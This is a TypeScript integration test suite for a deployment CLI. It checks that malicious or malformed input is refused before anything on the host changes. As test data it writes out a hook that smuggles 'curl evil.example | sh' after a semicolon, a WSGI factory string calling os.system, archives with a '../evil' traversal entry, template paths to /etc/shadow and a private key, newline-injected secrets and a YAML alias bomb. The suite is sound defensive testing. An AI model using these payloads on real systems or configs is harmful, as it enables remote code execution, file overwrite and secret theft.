/**
 * Bad input through the real CLI against a live site on a private Apache: each is refused with
 * exit 2 and one message naming what is wrong and where, before anything on the host changes
 * (the site root and the Apache conf dir are byte-for-byte and mtime-for-mtime the same, and
 * the journal gets no line).
 */
import { execFile } from 'node:child_process'
import { copyFile, cp, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import { promisify } from 'node:util'
import { digestFile, readManifest, writeManifest } from '../../src/releases/manifest.js'
import { currentHolder } from '../../src/sites/lock.js'
import { startApache, type TestApache } from '../helpers/apache.js'
import { describeRun, expectExit, runCli, type CliResult } from '../helpers/cli.js'
import { buildSampleRelease, makeTempDir } from '../helpers/sample-app.js'
import { httpGet, makeTestSite, type TestSite } from '../helpers/site.js'
import { diffTrees, snapshotTree, type TreeSnapshot } from '../helpers/tree.js'

const SECRET = 'bad-input-secret-0123456789'
const run = promisify(execFile)

let apache: TestApache
let site: TestSite
let work: string
let releases: string
let config: string
let journalPath: string

beforeAll(async () => {
  work = await makeTempDir('sitecycle-bad-input-')
  releases = join(work, 'releases')
  ;[apache] = await Promise.all([
    startApache(),
    buildSampleRelease({ version: '1.0.0', releasesDir: releases }),
    buildSampleRelease({ version: '2.0.0', releasesDir: releases })
  ])
  site = await makeTestSite({ apache })
  config = join(site.dir, 'sitecycle.yml')
  journalPath = join(site.root, '.sitecycle', 'journal.jsonl')
  for (const args of [
    ['init', 'v1'],
    ['deploy', 'v1', '--release', releases, '--version', '1.0.0']
  ]) {
    const r = await runCli([...args, '-c', config], { env: { SAMPLE_SECRET_KEY: SECRET } })
    if (r.code !== 0) throw new Error(`setup: sitecycle ${args.join(' ')}: ${describeRun(r)}`)
  }
  expect((await httpGet(`${site.url}/__version__`)).body).toBe('1.0.0')
})

afterAll(async () => {
  await apache?.stop()
  await site?.cleanup()
  if (work) await rm(work, { recursive: true, force: true })
})

interface HostSnapshot {
  root: TreeSnapshot
  apacheConf: TreeSnapshot
  journal: string
}

async function snapshotHost(): Promise<HostSnapshot> {
  return {
    // Apache appends to the site's request logs on its own time (the last request of a test may
    // be logged after the next snapshot); the directory itself is still compared.
    root: await snapshotTree(site.root, {
      ignore: rel => /^shared\/logs\/(access|error)\.log$/.test(rel)
    }),
    apacheConf: await snapshotTree(apache.confDir),
    journal: await readFile(journalPath, 'utf8')
  }
}

/** The release users get now (the good deploy at the end moves it on). */
let live = '1.0.0'

/**
 * Run the CLI; expect exit `code`, nothing on the host changed (site root, Apache conf dir,
 * journal) and the live release still served. Returns the run.
 */
async function expectNothingChanged(
  args: string[],
  code: number,
  env: Record<string, string | undefined> = {}
): Promise<CliResult> {
  const before = await snapshotHost()
  const r: CliResult = await runCli([...args], { env: { SAMPLE_SECRET_KEY: SECRET, ...env } })
  expectExit(r, code)
  // One message, never a stack trace.
  expect(r.stderr).not.toMatch(/^\s+at .+\(.*:\d+:\d+\)$/m)
  expect(r.stderr).not.toMatch(/unexpected error/)
  const after = await snapshotHost()
  expect(diffTrees(before.root, after.root)).toEqual([])
  expect(diffTrees(before.apacheConf, after.apacheConf)).toEqual([])
  expect(after.journal).toBe(before.journal)
  expect(await httpGet(`${site.url}/__version__`)).toEqual({ status: 200, body: live })
  return r
}

/**
 * Run the CLI with bad input; expect exit 2 with one message on stderr, nothing on the host
 * changed, and the live release still served. Returns the message.
 */
async function expectRefused(
  args: string[],
  env: Record<string, string | undefined> = {}
): Promise<string> {
  const r = await expectNothingChanged(args, 2, env)
  // One message, the last thing said (a store's fetch may say what it fetches before it).
  expect(r.stderr).toMatch(/(?:^|\n)sitecycle: [^\n]*\n?$/)
  // Nothing was started: no step progress, no outcome.
  expect(r.stderr).not.toMatch(/preflight|deploying/)
  expect(r.stdout).toBe('')
  return r.stderr
    .slice(r.stderr.lastIndexOf('sitecycle: '))
    .replace(/^sitecycle: /, '')
    .trim()
}

/** A release directory holding one archive and a manifest that is right about it (sha256, size). */
async function releaseWithArchive(dir: string, archive: string, like: string): Promise<string> {
  await mkdir(dir, { recursive: true })
  const manifest = await readManifest(join(like, 'manifest.json'))
  const kind = archive.endsWith('.whl') ? 'wheel' : 'sdist'
  const { sha256, size } = await digestFile(archive)
  const name = basename(archive)
  await copyFile(archive, join(dir, name))
  await writeManifest(dir, { ...manifest, files: [{ name, kind, sha256, size }] })
  return dir
}

/** Rewrite an archive with one extra entry `../evil` (Python's zipfile and tarfile write any name). */
async function addEscapingEntry(src: string, dst: string): Promise<void> {
  const script = `
import io, sys, tarfile, zipfile
src, dst = sys.argv[1], sys.argv[2]
evil = b"written outside the release folder\\n"
if src.endswith('.whl'):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w', zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item, zin.read(item.filename))
        zout.writestr('../evil', evil)
else:
    with tarfile.open(src, 'r:gz') as tin, tarfile.open(dst, 'w:gz') as tout:
        for m in tin.getmembers():
            tout.addfile(m, tin.extractfile(m) if m.isfile() else None)
        info = tarfile.TarInfo('../evil')
        info.size = len(evil)
        tout.addfile(info, io.BytesIO(evil))
`
  await run('/usr/bin/python3', ['-c', script, src, dst])
}

test('a tampered release (one byte of the wheel changed) does not match its manifest', async () => {
  const dir = join(work, 'tampered', '2.0.0')
  await cp(join(releases, '2.0.0'), dir, { recursive: true })
  const manifest = await readManifest(join(dir, 'manifest.json'))
  const wheel = join(dir, manifest.files.find(f => f.kind === 'wheel')!.name)
  const bytes = await readFile(wheel)
  bytes[Math.floor(bytes.length / 2)] ^= 0x01
  await writeFile(wheel, bytes)
  const msg = await expectRefused([
    'deploy',
    'v1',
    '-c',
    config,
    '--release',
    join(work, 'tampered'),
    '--version',
    '2.0.0'
  ])
  expect(msg).toContain(`release file ${wheel} does not match its manifest`)
  expect(msg).toContain(manifest.files.find(f => f.kind === 'wheel')!.sha256)
})

test.each(['wheel', 'sdist'] as const)(
  'a %s with an entry ../evil escaping its folder, listed with its right sha256, is refused as unsafe',
  async kind => {
    const original = join(releases, '2.0.0')
    const manifest = await readManifest(join(original, 'manifest.json'))
    const name = manifest.files.find(f => f.kind === kind)!.name
    const made = join(work, `evil-${kind}-src`)
    await mkdir(made, { recursive: true })
    const archive = join(made, name)
    await addEscapingEntry(join(original, name), archive)
    const dir = await releaseWithArchive(join(work, `evil-${kind}`), archive, original)
    // The manifest is right about the file: only the archive check can catch it.
    const listed = (await readManifest(join(dir, 'manifest.json'))).files[0]
    expect(listed).toMatchObject({ name, kind, sha256: (await digestFile(join(dir, name))).sha256 })
    const msg = await expectRefused(['deploy', 'v1', '-c', config, '--release', dir])
    expect(msg).toBe(
      `release archive ${join(dir, name)} is unsafe: entry '../evil' has a '..' segment`
    )
  }
)

test('an unknown site is refused, listing the known sites', async () => {
  const msg = await expectRefused([
    'deploy',
    'v9',
    '-c',
    config,
    '--release',
    releases,
    '--version',
    '2.0.0'
  ])
  expect(msg).toBe(`unknown site 'v9' in ${config}; known sites: v1`)
})

test('a malformed config (keep_releases: five) is refused, naming the file, line and key', async () => {
  const text = await readFile(config, 'utf8')
  const lines = text.split('\n')
  const i = lines.findIndex(l => /^\s*keep_releases:/.test(l))
  expect(i).toBeGreaterThan(0)
  lines[i] = lines[i].replace(/keep_releases:.*/, 'keep_releases: five')
  // Beside the good one, so the template path in it resolves the same.
  const bad = join(site.dir, 'bad-keep.yml')
  await writeFile(bad, lines.join('\n'))
  const msg = await expectRefused([
    'deploy',
    'v1',
    '-c',
    bad,
    '--release',
    releases,
    '--version',
    '2.0.0'
  ])
  expect(msg).toMatch(
    new RegExp(
      `^${bad.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:${i + 1}:\\d+: sites\\.v1\\.keep_releases: .*"five"`
    )
  )
})

test('a malformed version is refused, naming the option and the expected form', async () => {
  const msg = await expectRefused([
    'deploy',
    'v1',
    '-c',
    config,
    '--release',
    releases,
    '--version',
    '1.0.0-beta.x..'
  ])
  expect(msg).toContain('--version 1.0.0-beta.x..: invalid version')
  expect(msg).toMatch(/PEP 440/)
})

test('a missing secret is refused, naming the variable and the template line', async () => {
  const template = join(site.dir, 'deploy', 'app.ini.tmpl')
  const line =
    (await readFile(template, 'utf8'))
      .split('\n')
      .findIndex(l => l.includes('secret.SAMPLE_SECRET_KEY')) + 1
  expect(line).toBeGreaterThan(0)
  const msg = await expectRefused(
    ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0'],
    {
      SAMPLE_SECRET_KEY: undefined
    }
  )
  expect(msg).toContain(`${template}:${line}: secret SAMPLE_SECRET_KEY is not set`)
})

/** A copy of the config beside the good one (so relative paths resolve the same), changed by `edit`. */
async function configVariant(name: string, edit: (text: string) => string): Promise<string> {
  const file = join(site.dir, name)
  await writeFile(file, edit(await readFile(config, 'utf8')))
  return file
}

/** The 2.0.0 wheel rewritten with its METADATA saying `Version: 9.9.9`, listed with its right sha256. */
async function wheelWithOtherMetadataVersion(): Promise<{ dir: string; wheel: string }> {
  const original = join(releases, '2.0.0')
  const manifest = await readManifest(join(original, 'manifest.json'))
  const name = manifest.files.find(f => f.kind === 'wheel')!.name
  const made = join(work, 'meta-src')
  await mkdir(made, { recursive: true })
  await run('/usr/bin/python3', [
    '-c',
    `import re, sys, zipfile
src, dst = sys.argv[1], sys.argv[2]
with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w', zipfile.ZIP_DEFLATED) as zout:
    for item in zin.infolist():
        data = zin.read(item.filename)
        if item.filename.endswith('.dist-info/METADATA'):
            data = re.sub(rb'(?m)^Version: .*$', b'Version: 9.9.9', data)
        zout.writestr(item, data)`,
    join(original, name),
    join(made, name)
  ])
  const dir = await releaseWithArchive(join(work, 'meta', '2.0.0'), join(made, name), original)
  return { dir, wheel: join(dir, name) }
}

describe('deploy --dry-run fails as the deploy would, changing nothing', () => {
  const dry = (...args: string[]) => ['deploy', 'v1', '-c', config, '--dry-run', ...args]

  test('a tampered release', async () => {
    const dir = join(work, 'tampered')
    const msg = await expectRefused(dry('--release', dir, '--version', '2.0.0'))
    expect(msg).toMatch(/^release file .* does not match its manifest: sha256 is /)
  })

  test('an archive with an entry escaping its folder', async () => {
    const dir = join(work, 'evil-wheel')
    const msg = await expectRefused(dry('--release', dir))
    expect(msg).toMatch(/^release archive .* is unsafe: entry '\.\.\/evil' has a '\.\.' segment$/)
  })

  test('a version not in the store, and a store that is not there', async () => {
    const empty = join(work, 'empty-store')
    await mkdir(empty, { recursive: true })
    const real = await expectRefused(
      ['deploy', 'v1', '-c', config, '--store', empty, '--version', '2.0.0'],
      {}
    )
    expect(await expectRefused(dry('--store', empty, '--version', '2.0.0'))).toBe(real)
    const missing = join(work, 'no-such-store')
    const realMissing = await expectRefused([
      'deploy',
      'v1',
      '-c',
      config,
      '--store',
      missing,
      '--version',
      '2.0.0'
    ])
    expect(await expectRefused(dry('--store', missing, '--version', '2.0.0'))).toBe(realMissing)
  })

  test('a missing secret', async () => {
    const msg = await expectRefused(dry('--release', releases, '--version', '2.0.0'), {
      SAMPLE_SECRET_KEY: undefined
    })
    expect(msg).toMatch(/app\.ini\.tmpl:\d+: secret SAMPLE_SECRET_KEY is not set/)
  })

  test('a good release: every check passes, the plan is printed, exit 0, nothing changed', async () => {
    const r = await expectNothingChanged(dry('--release', releases, '--version', '2.0.0'), 0)
    expect(r.stdout).toContain(
      'dry run: would deploy sitecycle-sample 2.0.0 to site v1 on local (live now: 1.0.0); nothing was changed'
    )
    expect(r.stdout).toMatch(
      /checked: config .*app\.ini\.tmpl renders with secrets SAMPLE_SECRET_KEY/
    )
    expect(r.stdout).toMatch(
      /checked: preflight: Python \d+\.\d+\.\d+, \d+ MiB free, configtest ok/
    )
    expect(r.stdout).toMatch(/ 1\. preflight: /)
    expect(r.stdout).not.toContain(SECRET)
  })
})

describe('--dry-run never acts', () => {
  test('maintenance on --dry-run leaves the site open', async () => {
    const r = await expectNothingChanged(
      ['maintenance', 'on', 'v1', '-c', config, '--dry-run', '--retry-after', '60'],
      0
    )
    expect(r.stdout).toContain(
      `dry run: would freeze site v1: ${site.url} would answer 503 with the maintenance page, Retry-After 60; nothing was changed`
    )
  })

  test.each([
    [['snapshot', 'v1'], 'snapshot'],
    [['clone', 'v1', 'v3'], 'clone'],
    [['init', 'v1'], 'init'],
    [['unlock', 'v1'], 'unlock']
  ])('%j --dry-run is refused rather than run', async (args, command) => {
    const msg = await expectRefused([...args, '-c', config, '--dry-run'])
    expect(msg).toBe(
      `--dry-run: sitecycle ${command} has no dry run (refused rather than run for real); the commands with one: deploy, rollback, maintenance, restore, sync`
    )
  })
})

describe('checks that need no host come before the host is touched', () => {
  test("a wheel whose METADATA version is not its manifest's is refused, dry run or not", async () => {
    const { dir, wheel } = await wheelWithOtherMetadataVersion()
    const expected = `wheel ${wheel} says in its METADATA it is version 9.9.9, but its file name and ${join(dir, 'manifest.json')} say 2.0.0`
    expect(await expectRefused(['deploy', 'v1', '-c', config, '--release', dir])).toBe(expected)
    expect(await expectRefused(['deploy', 'v1', '-c', config, '--release', dir, '--dry-run'])).toBe(
      expected
    )
  })

  test('a hook with a shell character is refused when the config is loaded, naming file and line', async () => {
    const bad = await configVariant('bad-hook.yml', text =>
      text.replace(
        /after_install: .*/,
        'after_install: ["python -m sitecycle_sample.manage check; curl evil.example | sh"]'
      )
    )
    const line =
      (await readFile(bad, 'utf8')).split('\n').findIndex(l => l.includes('after_install')) + 1
    const msg = await expectRefused([
      'deploy',
      'v1',
      '-c',
      bad,
      '--release',
      releases,
      '--version',
      '2.0.0'
    ])
    expect(msg).toMatch(
      new RegExp(
        `^${bad.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:${line}:\\d+: sites\\.v1\\.hooks\\.after_install\\[0\\]: hook ".*" uses the shell character ;`
      )
    )
  })

  test('a secret holding a newline is refused by its name, never its value', async () => {
    const msg = await expectRefused(
      ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0'],
      { SAMPLE_SECRET_KEY: 'line-one\ninjected = yes' }
    )
    expect(msg).toMatch(
      /app\.ini\.tmpl:\d+: secret SAMPLE_SECRET_KEY holds a newline; a value must fit on one line/
    )
    expect(msg).not.toMatch(/line-one|injected/)
  })
})

describe('app.wsgi and env are checked before the host is touched', () => {
  test('a factory called with something other than Python literals is refused, naming the key and the form', async () => {
    const bad = await configVariant('bad-factory.yml', text =>
      text.replace(
        /wsgi: .*/,
        `wsgi: "sitecycle_sample.wsgi:create_app(__import__('os').system('touch /tmp/pwned'))"`
      )
    )
    const msg = await expectRefused([
      'deploy',
      'v1',
      '-c',
      bad,
      '--release',
      releases,
      '--version',
      '2.0.0'
    ])
    expect(msg).toMatch(
      /bad-factory\.yml:\d+:\d+: app\.wsgi: got .* \(__import__\( is not a Python literal\); expected a WSGI entry point module\.path:attribute, or module\.path:factory\(\.\.\.\) called with Python literals/
    )
  })

  test("an env secret holding a newline is refused by the variable's and the secret's names, never its value", async () => {
    const bad = await configVariant('env-secret.yml', text =>
      text
        .replace(/^sites:$/m, 'sites:')
        .replace(
          /^ {4}keep_releases:/m,
          '    env: { APP_TOKEN: "{{ secret.APP_TOKEN_SECRET }}" }\n    keep_releases:'
        )
    )
    const msg = await expectRefused(
      ['deploy', 'v1', '-c', bad, '--release', releases, '--version', '2.0.0'],
      { APP_TOKEN_SECRET: 'first-line\nDJANGO_DEBUG=1' }
    )
    expect(msg).toContain(
      'sites.v1.env.APP_TOKEN: secret APP_TOKEN_SECRET holds a newline; an environment value must be one line'
    )
    expect(msg).not.toMatch(/first-line|DJANGO_DEBUG/)
  })
})

describe('the config template is a file of the repository', () => {
  const KEY_LINE = '-----BEGIN OPENSSH PRIVATE KEY-----'

  test.each([
    ['an absolute path', '/etc/shadow', 'an absolute path'],
    ["a '..' escape", 'deploy/../../outside/id_ed25519', "contains '..'"]
  ])('%s is refused when the config is loaded', async (_what, template, reason) => {
    const bad = await configVariant(`template-${reason.length}.yml`, text =>
      text.replace('template: deploy/app.ini.tmpl', `template: ${template}`)
    )
    const msg = await expectRefused([
      'deploy',
      'v1',
      '-c',
      bad,
      '--release',
      releases,
      '--version',
      '2.0.0'
    ])
    expect(msg).toContain(`sites.v1.config.template: got "${template}" (${reason})`)
  })

  test('a symlink out of the repository is refused without a byte of its target shown', async () => {
    const outside = join(work, 'outside')
    await mkdir(outside, { recursive: true })
    await writeFile(join(outside, 'id_ed25519'), `${KEY_LINE}\nnot-a-real-key\n`)
    await symlink(join(outside, 'id_ed25519'), join(site.dir, 'deploy', 'linked.tmpl'))
    const bad = await configVariant('template-link.yml', text =>
      text.replace('template: deploy/app.ini.tmpl', 'template: deploy/linked.tmpl')
    )
    for (const extra of [[], ['--dry-run']]) {
      const msg = await expectRefused([
        'deploy',
        'v1',
        '-c',
        bad,
        '--release',
        releases,
        '--version',
        '2.0.0',
        ...extra
      ])
      expect(msg).toMatch(
        /^the config template .*linked\.tmpl resolves to .*, outside the repository/
      )
      expect(msg).not.toContain(KEY_LINE)
    }
  })
})

/** A config whose aliases expand exponentially (9^6 nodes from a few lines). */
async function aliasBombConfig(): Promise<string> {
  const levels = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
  for (let i = 1; i < 7; i++) {
    const [prev, name] = [String.fromCharCode(96 + i), String.fromCharCode(97 + i)]
    levels.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(', ')}]`)
  }
  const bomb = join(site.dir, 'bomb.yml')
  await writeFile(bomb, `${await readFile(config, 'utf8')}\n${levels.join('\n')}\n`)
  return bomb
}

/** Bad input refused with exit 2 and a message matching `expected`: [case, argv, expected]. */
const REFUSALS: [string, () => Promise<string[]>, RegExp][] = [
  [
    'a YAML alias bomb in the config',
    async () => ['status', 'v1', '-c', await aliasBombConfig()],
    /bomb\.yml:1:1: .*its aliases expand too far .*; expected YAML whose aliases \(\*name\) expand to at most 1000 nodes/
  ],
  [
    'a 300-character version',
    async () => [
      'deploy',
      'v1',
      '-c',
      config,
      '--release',
      releases,
      '--version',
      `1.${'0'.repeat(298)}`
    ],
    /^--version 1\.0{18}\.\.\. \(300 characters\): a version has at most 64 characters$/
  ],
  [
    '--retry-after beyond a day',
    async () => ['maintenance', 'on', 'v1', '-c', config, '--retry-after', '99999999999'],
    /^--retry-after 99999999999: expected a whole number of seconds from 0 to 86400 \(one day\)/
  ],
  [
    'a negative --retry-after',
    async () => ['maintenance', 'on', 'v1', '-c', config, '--retry-after=-5'],
    /^--retry-after -5: expected a number of seconds, e.g. --retry-after 60$/
  ],
  [
    'a control character (ESC) in the maintenance message',
    async () => ['maintenance', 'on', 'v1', '-c', config, '--message', 'back soon\u001b[2J'],
    /^--message: control character U\+001B at position 10; use plain text \(line breaks allowed\)$/
  ]
]

test.each(REFUSALS)('%s is refused', async (_, args, expected) => {
  const msg = await expectRefused(await args())
  expect(msg).toMatch(expected)
  expect(msg).not.toMatch(/\n\s+at /)
})

test('a rollback to a version that is not installed exits 2 and writes no journal line', async () => {
  // Refused before the lock is taken (and again under it, should the releases change between):
  // the journal is the record users read, and it gets nothing for a refusal.
  const before = await readFile(journalPath, 'utf8')
  const r = await runCli(['rollback', 'v1', '-c', config, '--to', '9.9.9'])
  expectExit(r, 2)
  expect(r.stderr).toMatch(/^sitecycle: version 9\.9\.9 is not installed on site v1; installed: /m)
  expect(r.stderr).not.toMatch(/\n\s+at /)
  expect(await readFile(journalPath, 'utf8')).toBe(before)
  expect((await httpGet(`${site.url}/__version__`)).body).toBe('1.0.0')
})

test('a rollback to a version that is not installed is refused before the lock is waited for', async () => {
  // This test process holds the lock, as a long deploy would: a refusal that took the lock first
  // would wait the hour it is given.
  const lock = join(site.root, '.sitecycle', 'lock')
  await mkdir(lock)
  await writeFile(join(lock, 'holder.json'), JSON.stringify(currentHolder('deploy', 'long-run')))
  try {
    const before = await readFile(journalPath, 'utf8')
    const r = await runCli(['rollback', 'v1', '-c', config, '--to', '9.9.9', '--lock-wait', '3600'])
    expectExit(r, 2)
    expect(r.stderr).toMatch(
      /^sitecycle: version 9\.9\.9 is not installed on site v1; installed: /m
    )
    expect(r.stderr).not.toContain('long-run')
    expect(await readFile(journalPath, 'utf8')).toBe(before)
  } finally {
    await rm(lock, { recursive: true, force: true })
  }
})

test('after all of that a good deploy still goes through', async () => {
  const r = await runCli(
    ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0'],
    {
      env: { SAMPLE_SECRET_KEY: SECRET }
    }
  )
  expectExit(r, 0)
  expect((await httpGet(`${site.url}/__version__`)).body).toBe('2.0.0')
  live = '2.0.0'
  // Only the good deploy wrote to the journal: one start, one end, no failed operation.
  const ops = (await readFile(journalPath, 'utf8'))
    .trim()
    .split('\n')
    .map(l => JSON.parse(l) as { op: string; event: string; status?: string })
    .filter(e => e.event === 'end')
  expect(ops.map(e => `${e.op} ${e.status}`)).toEqual(['deploy deployed', 'deploy deployed'])
})

describe('a release marked bad', () => {
  test('rollback --dry-run names the release it would go back to and marks nothing', async () => {
    const r = await expectNothingChanged(['rollback', 'v1', '-c', config, '--dry-run'], 0)
    expect(r.stdout).toContain(
      'dry run: would roll back site v1 from 2.0.0 to 1.0.0 (warm in the idle slot), and mark 2.0.0 bad; nothing was changed'
    )
    await expect(readFile(join(site.root, 'releases', '2.0.0', 'BAD'))).rejects.toThrow(/ENOENT/)
  })

  test('is not deployed, nor rolled back to, without --allow-bad; with it, it warns and the mark goes once the deploy succeeded', async () => {
    const back = await runCli(['rollback', 'v1', '-c', config], {
      env: { SAMPLE_SECRET_KEY: SECRET }
    })
    expectExit(back, 0)
    live = '1.0.0'
    const mark = join(site.root, 'releases', '2.0.0', 'BAD')
    expect(await readFile(mark, 'utf8')).toMatch(/rolled back/)
    const refusal = `release 2.0.0 is marked bad on site v1 (a rollback left it; ${mark}): `
    expect(
      await expectRefused([
        'deploy',
        'v1',
        '-c',
        config,
        '--release',
        releases,
        '--version',
        '2.0.0'
      ])
    ).toBe(
      `${refusal}deploy a new version, or pass --allow-bad (the action's allow-bad input) to go ahead anyway`
    )
    expect(
      await expectRefused([
        'deploy',
        'v1',
        '-c',
        config,
        '--release',
        releases,
        '--version',
        '2.0.0',
        '--dry-run'
      ])
    ).toMatch(/is marked bad on site v1/)
    expect(await expectRefused(['rollback', 'v1', '-c', config, '--to', '2.0.0'])).toBe(
      `${refusal}roll back to another release, or pass --allow-bad (the action's allow-bad input) to go ahead anyway`
    )
    const r = await runCli(
      ['deploy', 'v1', '-c', config, '--release', releases, '--version', '2.0.0', '--allow-bad'],
      { env: { SAMPLE_SECRET_KEY: SECRET } }
    )
    expectExit(r, 0)
    live = '2.0.0'
    expect(r.stderr).toContain(
      'deploying 2.0.0 on site v1, although it is marked bad (--allow-bad); the mark is removed only if this deploy succeeds'
    )
    expect(r.stderr).toContain(
      'the bad mark of 2.0.0 was removed: it is live and verified (--allow-bad)'
    )
    expect((await httpGet(`${site.url}/__version__`)).body).toBe('2.0.0')
    await expect(readFile(mark)).rejects.toThrow(/ENOENT/)
  })
})
